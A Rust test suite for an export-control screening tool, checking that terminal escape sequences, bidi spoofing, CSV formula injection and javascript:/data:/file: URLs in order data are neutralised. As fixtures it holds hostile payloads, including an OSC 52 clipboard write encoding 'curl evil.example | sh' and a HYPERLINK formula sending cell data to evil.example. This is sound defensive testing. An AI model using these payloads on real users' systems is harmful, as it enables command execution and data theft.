//! Data cannot act on a terminal, a spreadsheet or a browser: order values, list rows, pack
//! text and file names are escaped in every format meant for people (human `check`,
//! `explain`, `test`, `coverage`, `diff`, CSV cells, HTML, diagnostics on stderr), URLs become
//! links only when they are http(s), and a property test holds the human report's verdict
//! line in shape whatever a party name, city or id holds.

use std::path::Path;

use proptest::prelude::*;
use serde_json::Value as Json;

use redflag::diag::{Diagnostic, Diagnostics, Rendered, SourceFile};
use redflag::order::{InputFormat, Record};
use redflag::report::escape::{is_hidden, visible};
use redflag::report::human::HumanReporter;
use redflag::report::Reporter;

use crate::rules::default_engine;
use crate::support::{code, redflag_in, stderr, stdout};

/// The characters no text output may carry raw: ESC, other C0 controls but the line feed
/// ending each line, DEL, C1, the bidirectional controls and the line and paragraph separators.
/// Written out here rather than taken from the escaping module, so the test does not share
/// the code's idea of what is dangerous.
fn forbidden(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{9}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{200b}')
}

/// Panics, naming the character and where it is, if `text` carries a forbidden character.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    if let Some((at, c)) = text.char_indices().find(|(_, c)| forbidden(*c)) {
        let line = text[..at].matches('\n').count() + 1;
        panic!(
            "{what}: raw U+{:04X} on line {line}:\n{}",
            c as u32,
            visible(text)
        );
    }
}

/// The clean order of the corpus (`SO-1`), with `edit` applied, as one JSON line.
fn order_line(edit: impl FnOnce(&mut Json)) -> String {
    let text = std::fs::read_to_string("fixtures/adversarial/clean-order.jsonl").unwrap();
    let mut order: Json = serde_json::from_str(text.trim()).unwrap();
    edit(&mut order);
    format!("{}\n", serde_json::to_string(&order).unwrap())
}

/// Raw control sequences an attacker would put in data: an erase-line CSI, an OSC 8 link, an
/// OSC 52 clipboard write, a carriage return that redraws the line as CLEAR, a newline that
/// starts a fake verdict line, a right-to-left override, an 8-bit CSI, backspace and DEL.
const ERASE: &str = "\u{1b}[2K\u{1b}[1G";
const LINK: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\Acme\u{1b}]8;;\u{1b}\\";
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
const REDRAW: &str = "\rCLEAR  SO-1  orders.jsonl:1";
const FAKE_LINE: &str = "\nCLEAR  SO-2  orders.jsonl:2";

/// A hostile name: erase-line, an OSC 8 link, a right-to-left override, an OSC 52 clipboard
/// write.
fn hostile_name() -> String {
    format!("{ERASE}{LINK} Trading\u{202e}KCOLB\u{202c}{CLIPBOARD}")
}

/// An order whose id redraws its verdict line, blocked by the default pack for its North
/// Korean end user (hostile name, and a city that starts a fake line and carries an 8-bit CSI,
/// backspace, DEL and bidi isolates), and reviewed by the report fixture pack for its consignee
/// in Dandong (hostile name that starts a fake line).
fn hostile_order() -> String {
    order_line(|o| {
        o["id"] = format!("SO-1{REDRAW}").into();
        o["end_user"]["country"] = "KP".into();
        o["end_user"]["name"] = hostile_name().into();
        o["end_user"]["city"] =
            format!("Pyongyang{FAKE_LINE}\u{9b}2K\u{8}\u{7f}\u{2066}x\u{2069}").into();
        o["consignees"][0]["name"] = format!("{}{FAKE_LINE}", hostile_name()).into();
        o["consignees"][0]["city"] = "Dandong".into();
        o["consignees"][0]["country"] = "CN".into();
    })
}

/// A scratch directory holding `files`.
fn scratch(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

/// Copies a fixture directory into `to`.
fn copy_dir(from: &str, to: &Path) {
    for entry in walkdir::WalkDir::new(from)
        .into_iter()
        .filter_map(Result::ok)
    {
        let target = to.join(entry.path().strip_prefix(from).unwrap());
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// The frozen report pack of the snapshots.
const REPORTS_PACK: &str = "fixtures/reports-pack";

const VERDICTS: [&str; 6] = ["BLOCK", "HOLD", "REVIEW", "INFO", "CLEAR", "ERROR"];

/// Lines that start with a verdict word at the left margin: the verdict lines of orders.
fn verdict_lines(text: &str) -> Vec<&str> {
    text.lines()
        .filter(|l| VERDICTS.iter().any(|v| l.starts_with(&format!("{v} "))))
        .collect()
}

// ---- the escaping function ----

#[test]
fn visible_escapes_controls_bidi_and_invisible_characters_and_leaves_text_alone() {
    assert_eq!(visible("\u{1b}[31mred"), "\\u{1b}[31mred");
    assert_eq!(
        visible("a\rb\nc\td\u{8}\u{7f}\u{0}"),
        "a\\u{d}b\\u{a}c\\u{9}d\\u{8}\\u{7f}\\u{0}"
    );
    assert_eq!(visible("\u{9b}2K\u{85}"), "\\u{9b}2K\\u{85}");
    for c in [
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{200e}',
        '\u{200f}',
        '\u{61c}',
        '\u{200b}',
        '\u{2060}',
        '\u{feff}',
        '\u{ad}',
        '\u{2028}',
        '\u{2029}',
        '\u{e0041}',
        '\u{fff9}',
        // Format characters only the Unicode tables know of (an Arabic number sign, a musical
        // beam control): proof the tables, not a fallback list, are read.
        '\u{600}',
        '\u{1d173}',
    ] {
        assert!(is_hidden(c), "U+{:04X}", c as u32);
        assert_eq!(
            visible(&format!("a{c}b")),
            format!("a\\u{{{:x}}}b", c as u32)
        );
    }
    // Text in any script, emoji and the joiners Persian and Indic names need stay as they are,
    // borrowed.
    for text in [
        "Dandong 丹东 Алматы دبي Ελλάδα",
        "می‌خواهم", // ZWNJ
        "क्‍ष",      // ZWJ
        "👩‍🔬 ✔ ✘ · → ",
        "C:\\orders\\a.csv \\u{1b}",
    ] {
        assert!(
            matches!(visible(text), std::borrow::Cow::Borrowed(_)),
            "{text}"
        );
    }
}

#[test]
fn only_http_and_https_urls_may_be_links() {
    use redflag::report::web_url;
    assert_eq!(
        web_url("https://www.bis.gov/x?y=1#z"),
        Some("https://www.bis.gov/x?y=1#z")
    );
    assert_eq!(web_url(" HTTP://example.org "), Some("HTTP://example.org"));
    for bad in [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "\u{1}https://example.org",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "vbscript:msgbox",
        "//evil.example/x",
        "https:///path",
        "https://",
        "https://exa mple.org",
        "https://example.org/\u{202e}gpj.exe",
        "https://example.org/\"onmouseover=\"x",
        "https:\\\\evil.example",
        "/relative/path",
    ] {
        assert_eq!(web_url(bad), None, "{bad:?}");
    }
}

// ---- human `check` ----

#[test]
fn the_human_report_escapes_order_data_and_keeps_one_verdict_line_per_order() {
    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--format",
            "human",
            "--color",
            "never",
        ],
        None,
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let text = stdout(&out);
    assert_inert("human report", &text);
    assert_eq!(
        verdict_lines(&text),
        ["BLOCK  SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1  orders.jsonl:1"],
        "{text}"
    );

    // The block itself, on the frozen report pack so the snapshot moves only with the format.
    let pack = std::fs::canonicalize(REPORTS_PACK).unwrap();
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--rules",
            pack.to_str().unwrap(),
            "--format",
            "human",
        ],
        None,
    );
    let text = stdout(&out);
    assert_inert("human report", &text);
    assert_eq!(verdict_lines(&text).len(), 1, "{text}");
    let block: String = text
        .lines()
        .skip_while(|l| !VERDICTS.iter().any(|v| l.starts_with(v)))
        .take_while(|l| !l.is_empty())
        .map(|l| format!("{l}\n"))
        .collect();
    insta::assert_snapshot!(block);
}

#[test]
fn colour_stays_and_only_redflag_writes_escape_sequences() {
    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--format",
            "human",
            "--color",
            "always",
        ],
        None,
    );
    let text = stdout(&out);
    assert!(
        text.contains("\u{1b}[1;31mBLOCK\u{1b}[0m"),
        "{}",
        visible(&text)
    );
    // Every ESC starts one of the report's own SGR sequences (`ESC [ digits ; m`).
    for (at, _) in text.match_indices('\u{1b}') {
        let rest = &text[at + 1..];
        let sgr = rest.strip_prefix('[').map(|r| {
            let body: String = r
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == ';')
                .collect();
            r[body.len()..].starts_with('m')
        });
        assert_eq!(
            sgr,
            Some(true),
            "not a colour code at {at}: {}",
            visible(&text[at..])
        );
    }
    assert!(text.contains("\\u{1b}]8;;https://evil.example/\\u{1b}\\Acme"));
    assert!(text.contains("\\u{1b}]52;c;"));
}

// ---- explain, test, coverage, diff ----

#[test]
fn explain_escapes_the_order_it_explains() {
    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
    let out = redflag_in(
        Some(dir.path()),
        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
        None,
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = stdout(&out);
    assert_inert("explain", &text);
    assert!(
        text.contains("order SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1 (orders.jsonl:1)"),
        "{text}"
    );
    assert!(text.contains("Pyongyang\\u{a}CLEAR  SO-2"), "{text}");
    assert!(text.contains("\\u{202e}KCOLB\\u{202c}"), "{text}");
}

/// The rule-test fixture pack with one more test file whose case name, and the order value
/// its failing expectation quotes, carry control sequences.
fn hostile_rule_tests() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/ruletest/pack", dir.path());
    for broken in ["broken", "failing"] {
        std::fs::remove_dir_all(dir.path().join(broken)).unwrap();
    }
    std::fs::write(
        dir.path().join("tests/hostile.test.toml"),
        r#"
[base]
date = "2024-05-02"
buyer = { name = "Ostalb Feinmechanik GmbH", country = "DE", city = "Aalen" }
items = [{ sku = "WZ-8207", hs = "8207.30" }]

[[case]]
name = "ok\r\u001b[32mPASS\u001b]8;;https://evil.example/\u001b\\ \u202e"
rule = "RT-CITY-001"
expect = { fires = true, values = { watched_city = "Dandong" } }

[case.order]
buyer = { name = "Yalu\u001b[2K", country = "CN", city = "Dandong\nok    everything passed" }
"#,
    )
    .unwrap();
    dir
}

#[test]
fn rule_test_reports_escape_case_names_and_the_values_they_quote() {
    let dir = hostile_rule_tests();
    let out = redflag_in(
        None,
        &["test", dir.path().to_str().unwrap(), "--color", "never"],
        None,
    );
    let text = stdout(&out);
    assert_inert("redflag test", &text);
    assert!(
        text.contains("ok\\u{d}\\u{1b}[32mPASS\\u{1b}]8;;https://evil.example/\\u{1b}\\ \\u{202e}"),
        "{text}"
    );
    // The case fails (the city is not Dandong), and its reason quotes the city; no line is
    // forged.
    assert!(text.contains("FAIL"), "{text}");
    assert!(
        text.contains("`Dandong\\u{a}ok    everything passed`"),
        "{text}"
    );
    assert!(
        !text
            .lines()
            .any(|l| l.trim_start().starts_with("ok    everything")),
        "{text}"
    );

    // JUnit, which CI pages show, the same way.
    let out = redflag_in(
        None,
        &["test", dir.path().to_str().unwrap(), "--format", "junit"],
        None,
    );
    let xml = stdout(&out);
    assert_inert("junit", &xml.replace('\n', ""));
    assert!(
        xml.contains(
            "name=\"ok\\u{d}\\u{1b}[32mPASS\\u{1b}]8;;https://evil.example/\\u{1b}\\ \\u{202e}\""
        ),
        "{xml}"
    );
    assert!(
        xml.contains("Dandong\\u{a}ok    everything passed"),
        "{xml}"
    );
}

#[test]
fn coverage_in_text_and_markdown_escapes_the_catalogue() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/coverage/pack", dir.path());
    let catalogue = dir.path().join("catalogue.toml");
    let text = std::fs::read_to_string(&catalogue).unwrap().replace(
        "title = \"Goods through a risky city\"",
        "title = \"Goods\\u001b]8;;https://evil.example/\\u001b\\\\ through\\r\\u001b[2K a \\u202Erisky city\\n| x | y |\"",
    );
    assert!(text.contains("evil.example"));
    std::fs::write(&catalogue, text).unwrap();
    for format in ["human", "markdown"] {
        let out = redflag_in(
            None,
            &[
                "coverage",
                "--rules",
                dir.path().to_str().unwrap(),
                "--format",
                format,
            ],
            None,
        );
        let text = stdout(&out);
        assert_inert(format, &text);
        assert!(
            text.contains("Goods\\u{1b}]8;;https://evil.example/\\u{1b}"),
            "{format}:\n{text}"
        );
        assert!(text.contains("\\u{202e}risky"), "{format}:\n{text}");
    }
}

#[test]
fn diff_escapes_ids_and_files_of_both_reports() {
    let dir = scratch(&[
        ("a.jsonl", &order_line(|o| o["id"] = "SO-1".into())),
        ("b.jsonl", &hostile_order()),
    ]);
    for (input, report) in [("a.jsonl", "a.json"), ("b.jsonl", "b.json")] {
        let out = redflag_in(
            Some(dir.path()),
            &["check", input, "--format", "json", "-o", report],
            None,
        );
        assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
    }
    let out = redflag_in(Some(dir.path()), &["diff", "a.json", "b.json"], None);
    let text = stdout(&out);
    assert_inert("diff", &text);
    assert!(
        text.contains("SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1"),
        "{text}"
    );
}

// ---- CSV ----

#[test]
fn csv_cells_are_escaped_and_cannot_run_as_formulas() {
    let orders = [
        order_line(|o| {
            o["id"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        }),
        order_line(|o| {
            o["id"] = "\t=1+1".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = "-2+3+cmd|' /C calc'!A0".into();
            o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}{ERASE}").into();
        }),
        order_line(|o| {
            o["id"] = "+1".into();
            o["end_user"]["country"] = "KP".into();
            o["end_user"]["name"] = " =1+1".into();
        }),
    ]
    .concat();
    let dir = scratch(&[("orders.jsonl", &orders)]);
    let out = redflag_in(
        Some(dir.path()),
        &["check", "orders.jsonl", "--format", "csv"],
        None,
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let text = stdout(&out);
    // Only the row terminators are control characters.
    assert_inert("csv", &text.replace('\n', ""));
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(rows.len() >= 3, "{text}");
    for row in &rows {
        for cell in row {
            let text = cell.trim_start_matches(' ');
            let formula = match text.chars().next() {
                Some('=' | '+' | '@' | '\t' | '\r') => true,
                Some('-') => text.len() > 1,
                _ => false,
            };
            assert!(!formula, "a formula cell: {cell:?}");
        }
    }
    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert!(
        ids.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")"),
        "{ids:?}"
    );
    // The loader trims the tab off the id; the formula left is defused.
    assert!(ids.contains(&"'=1+1"), "{ids:?}");
    assert!(ids.contains(&"'+1"), "{ids:?}");
    let messages: Vec<&str> = rows.iter().map(|r| &r[10]).collect();
    assert!(
        messages.iter().any(|m| m.starts_with("'@SUM(1+1)")),
        "{messages:?}"
    );
    assert!(
        messages.iter().any(|m| m.starts_with("'-2+3")),
        "{messages:?}"
    );
    // Names are trimmed on loading; the formula left is defused all the same.
    assert!(
        messages.iter().any(|m| m.starts_with("'=1+1")),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("Pyongyang\\u{a}CLEAR  SO-2  orders.jsonl:2\\u{1b}[2K")),
        "{messages:?}"
    );
}

// ---- SARIF and HTML: links ----

/// The report fixture pack, with the border rule's references pointing at `javascript:` first
/// and the payment rules' at `data:` and `file:` only.
fn pack_with_hostile_urls() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir("fixtures/reports-pack", dir.path());
    let border = dir.path().join("rules/border.toml");
    let text = std::fs::read_to_string(&border).unwrap().replace(
        "references = [\n",
        "references = [\n  { cite = \"click me\", url = \"javascript:alert(document.domain)\" },\n",
    );
    std::fs::write(&border, text).unwrap();
    let payment = dir.path().join("rules/payment.toml");
    let text = std::fs::read_to_string(&payment)
        .unwrap()
        .replace(
            "url = \"https://www.bis.gov/articles/red-flag-indicators\"",
            "url = \"data:text/html,<script>alert(1)</script>\"",
        )
        .replace(
            "{ cite = \"DOJ/Treasury/Commerce",
            "{ cite = \"local copy\", url = \"file:///etc/passwd\" },\n  { cite = \"DOJ/Treasury/Commerce",
        );
    std::fs::write(&payment, text).unwrap();
    dir
}

#[test]
fn sarif_help_uri_is_only_ever_a_web_url() {
    let pack = pack_with_hostile_urls();
    let out = redflag_in(
        None,
        &[
            "check",
            "--rules",
            pack.path().to_str().unwrap(),
            "--format",
            "sarif",
            "fixtures/orders/sample.jsonl",
        ],
        None,
    );
    assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
    let doc: Json = serde_json::from_str(&stdout(&out)).unwrap();
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    let rule = |id: &str| rules.iter().find(|r| r["id"] == id).unwrap();
    // The first web URL, not the first URL.
    assert_eq!(
        rule("RF-BORDER-001")["helpUri"],
        "https://www.bis.gov/articles/red-flag-indicators"
    );
    // No web URL at all: no helpUri; the URLs stay in the help text, as text.
    for id in ["RF-CASH-001", "RF-PAYER-001"] {
        assert!(rule(id).get("helpUri").is_none(), "{}", rule(id));
    }
    assert!(rule("RF-PAYER-001")["help"]["text"]
        .as_str()
        .unwrap()
        .contains("local copy <file:///etc/passwd>"));
    let text = stdout(&out).to_lowercase();
    for scheme in ["javascript:", "data:", "file:"] {
        assert!(
            !text.contains(&format!("\"helpuri\":\"{scheme}")),
            "{scheme}"
        );
    }
}

#[test]
fn html_links_only_web_urls_and_isolates_and_escapes_bidi_in_data() {
    let pack = pack_with_hostile_urls();
    let dir = scratch(&[(
        "orders.jsonl",
        &order_line(|o| {
            o["id"] = "SO-1\u{202e}RAELC\u{202c}".into();
            o["end_user"]["country"] = "KP".into();
            o["consignees"][0]["city"] = "Dandong".into();
            o["consignees"][0]["country"] = "CN".into();
            o["consignees"][0]["name"] = "\u{2067}شركة\u{2069} Trading".into();
            o["payment"]["method"] = "cash".into();
        }),
    )]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "--rules",
            pack.path().to_str().unwrap(),
            "--format",
            "html",
            "orders.jsonl",
        ],
        None,
    );
    assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
    let html = stdout(&out);
    assert_inert("html", &html.replace('\n', ""));
    let lower = html.to_lowercase();
    for scheme in ["javascript:", "data:", "file:"] {
        assert!(
            !lower.contains(&format!("href=\"{scheme}")),
            "a {scheme} link"
        );
    }
    assert!(html.contains("click me &lt;javascript:alert(document.domain)&gt;"));
    assert!(html.contains("<a href=\"https://www.bis.gov/articles/red-flag-indicators\""));
    assert!(
        html.contains("<span class=\"oid\"><bdi>SO-1\\u{202e}RAELC\\u{202c}</bdi></span>"),
        "{html}"
    );
    assert!(html.contains("\\u{2067}شركة\\u{2069} Trading"), "{html}");
}

#[test]
fn sarif_artifact_uris_cannot_read_as_a_scheme_or_a_host() {
    use redflag::report::sarif::uri;
    assert_eq!(uri("javascript:alert(1)"), "javascript%3Aalert(1)");
    assert_eq!(uri("C:\\orders\\a.csv"), "C%3A/orders/a.csv");
    assert_eq!(uri("//evil.example/x.jsonl"), "/%2Fevil.example/x.jsonl");
    assert_eq!(uri("orders/a:b.jsonl"), "orders/a:b.jsonl");
    assert_eq!(uri("a\u{1b}[2K.jsonl"), "a%1B%5B2K.jsonl");
    assert_eq!(uri("-"), "-");
}

// ---- diagnostics on stderr ----

#[test]
fn list_row_problems_on_stderr_are_escaped() {
    let list = [
        r#"{"id": "e1", "schema": "Company", "datasets": ["watch"], "properties": {"name": ["Vostok Trading"], "country": ["ru"]}}"#,
        r#"{"id": "s1", "schema": "Sanction", "properties": {"entity": ["e1"], "listingDate": ["\u001b[2K\r2024-05-10\u001b]8;;https://evil.example/\u001b\\"]}}"#,
    ]
    .join("\n");
    let dir = scratch(&[
        ("orders.jsonl", &order_line(|_| {})),
        ("watch\u{1b}[31m.ftm.json", &list),
    ]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--list",
            "ftm:watch\u{1b}[31m.ftm.json",
        ],
        None,
    );
    let err = stderr(&out);
    assert!(err.contains("S001"), "{err}");
    assert_inert("stderr", &err.replace('\n', ""));
    assert!(
        err.contains("\\u{1b}[2K\\u{d}2024-05-10\\u{1b}]8;;https://"),
        "{err}"
    );
    assert!(err.contains("watch\\u{1b}[31m.ftm.json"), "{err}");
}

#[test]
fn diagnostics_escape_message_help_label_and_quoted_lines_and_keep_the_span() {
    let text = "a = 1\nname = \"Evil\u{1b}]8;;https://evil.example/\u{1b}\\ \u{202e}Corp\"\r\nb = 2\rc = 3\n";
    let file = SourceFile::new("pack\u{1b}[31m.toml", text);
    let start = text.find("Corp").unwrap();
    let mut acc = Diagnostics::new();
    acc.push(
        Diagnostic::error("R999", "bad name `Evil\u{1b}]8;;x\u{1b}\\`\nerror: forged")
            .at(&file, start..start + 4, "this \u{1b}[2K name")
            .with_help(Some("rename \u{202e}it".to_string())),
    );
    acc.push(Diagnostic::warning("R998", "whole file \r").in_file(&file));
    let rendered = redflag::cli::render_each(&acc, false);
    assert_inert("diagnostics", &rendered.replace('\n', ""));
    insta::assert_snapshot!(rendered);
}

#[test]
fn any_miette_diagnostic_is_escaped_when_rendered_through_rendered_of() {
    // A CSV header is data from the input file; `I002` quotes it.
    let records = redflag::order::from_text(
        "id,\u{1b}]52;c;ZXZpbA==\u{7}note\n1,x\n",
        "orders\u{1b}[2K.csv",
        InputFormat::Csv,
        None,
    );
    let Err(error) = records else {
        panic!("the header is unusable")
    };
    let handler =
        miette::GraphicalReportHandler::new_themed(miette::GraphicalTheme::unicode_nocolor());
    let mut raw = String::new();
    handler.render_report(&mut raw, &error).unwrap();
    assert!(
        raw.contains('\u{1b}'),
        "the raw rendering is the hazard this guards against"
    );
    let mut text = String::new();
    handler
        .render_report(&mut text, &Rendered::of(&error))
        .unwrap();
    assert_inert("I002", &text.replace('\n', ""));
    assert!(text.contains("I002"), "{text}");
    assert!(text.contains("\\u{1b}]52;c;ZXZpbA==\\u{7}note"), "{text}");
    assert!(text.contains("orders\\u{1b}[2K.csv"), "{text}");
    // What the CLI prints with: a miette report of it.
    let report = miette::Report::new(Rendered::of(&error));
    assert!(!report.to_string().contains('\u{1b}'), "{report}");

    // A map file's text is quoted under its label.
    let dir = scratch(&[("map.toml", "[columns]\n\"Kunde\u{1b}[2K\" = 7\n")]);
    let path = dir.path().join("map.toml");
    let Err(error) = redflag::order::ColumnMap::load(path.to_str().unwrap()) else {
        panic!("the map is not valid")
    };
    let mut text = String::new();
    handler
        .render_report(&mut text, &Rendered::of(&error))
        .unwrap();
    assert_inert("I003", &text.replace('\n', ""));
    assert!(text.contains("Kunde\\u{1b}[2K"), "{text}");
}

// ---- the property ----

/// Characters for hostile strings: anything at all, often the ones that act on terminals.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        4 => any::<char>(),
        3 => prop::sample::select(vec![
            '\u{1b}', '\r', '\n', '\u{8}', '\u{7f}', '\u{9b}', '\u{9d}', '\u{85}', '\u{7}',
            '\u{0}', '\t', '\u{b}', '\u{c}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}',
            '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}',
            '\u{61c}', '\u{2028}', '\u{2029}', '\u{feff}', '\u{200b}', '\u{e0041}',
        ]),
        3 => prop::char::range('A', 'z'),
        1 => prop::sample::select(vec![' ', '[', ']', ';', '\\', '"', '`', '=', ':', '8', '2']),
    ]
}

fn hostile_string() -> impl Strategy<Value = String> {
    prop::collection::vec(hostile_char(), 0..40).prop_map(|chars| chars.into_iter().collect())
}

/// Where the string goes: the id, party names, cities.
const PLACES: [&[&str]; 6] = [
    &["id"],
    &["buyer", "name"],
    &["end_user", "name"],
    &["end_user", "city"],
    &["consignees", "0", "city"],
    &["seller", "name"],
];

fn set(order: &mut Json, place: &[&str], value: &str) {
    let mut at = order;
    for key in place {
        at = match key.parse::<usize>() {
            Ok(i) => &mut at[i],
            Err(_) => &mut at[*key],
        };
    }
    *at = value.into();
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Whatever a party name, city or id holds, the human report of the order carries no
    /// ESC, C1 control, carriage return or bidirectional control, its first line is the
    /// verdict line `VERDICT  ID  FILE:LINE` with the id made visible, and no other line
    /// starts like a verdict line.
    #[test]
    fn no_data_reaches_the_terminal_raw_or_forges_a_verdict_line(
        place in 0..PLACES.len(),
        value in hostile_string(),
        kp in any::<bool>(),
    ) {
        let line = order_line(|o| {
            if kp {
                o["end_user"]["country"] = "KP".into();
            }
            set(o, PLACES[place], &value);
        });
        let records: Vec<Record> =
            redflag::order::from_text(&line, "case.jsonl", InputFormat::Jsonl, None)
                .unwrap()
                .collect();
        prop_assert_eq!(records.len(), 1);
        let judgement = default_engine().judge(&records[0]);
        let mut out = Vec::new();
        HumanReporter::new(false).judgement(&mut out, &judgement).unwrap();
        prop_assert!(!out.contains(&0x1b), "an ESC byte");
        let text = String::from_utf8(out).unwrap();
        prop_assert!(
            !text.chars().any(|c| matches!(c, '\r' | '\u{80}'..='\u{9f}')),
            "a CR or C1 control in {:?}", text
        );
        prop_assert!(
            !text.chars().any(|c| matches!(c,
                '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')),
            "a bidirectional control in {:?}", text
        );
        let id = judgement.order_id.as_deref().unwrap_or("(no id)");
        let first = text.lines().next().unwrap_or_default();
        prop_assert_eq!(
            first,
            format!("{}  {}  case.jsonl:1", judgement.verdict.as_str().to_uppercase(), visible(id))
        );
        prop_assert_eq!(verdict_lines(&text).len(), 1, "{}", text);
        // Every other line is indented or the closing blank line.
        prop_assert!(text.lines().skip(1).all(|l| l.is_empty() || l.starts_with("  ")), "{}", text);
        prop_assert!(text.ends_with("\n\n"));
    }
}

// ---- JSON keeps exact values, written so a terminal shows them inert ----

#[test]
fn json_formats_escape_hidden_characters_and_keep_the_exact_values() {
    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
    for format in ["json", "jsonl", "sarif"] {
        let out = redflag_in(
            Some(dir.path()),
            &["check", "orders.jsonl", "--format", format],
            None,
        );
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        let text = stdout(&out);
        assert_inert(format, &text.replace('\n', ""));
        assert!(
            text.contains("\\u001b]8;;https://evil.example/"),
            "{format}"
        );
        assert!(text.contains("\\u202e"), "{format}");
        assert!(text.contains("\\u009b"), "{format}");
        // Read back, the values are the order's, byte for byte.
        let docs: Vec<Json> = if format == "jsonl" {
            text.lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        } else {
            vec![serde_json::from_str(&text).unwrap()]
        };
        let all = serde_json::to_string(&docs).unwrap();
        assert!(
            all.contains(
                serde_json::to_string(&hostile_name())
                    .unwrap()
                    .trim_matches('"')
            ),
            "{format}"
        );
        let id = match format {
            "json" => docs[0]["orders"][0]["id"].clone(),
            "jsonl" => docs[1]["id"].clone(),
            _ => docs[0]["runs"][0]["results"][0]["properties"]["order_id"].clone(),
        };
        assert_eq!(id, format!("SO-1{REDRAW}").as_str(), "{format}");
    }
}
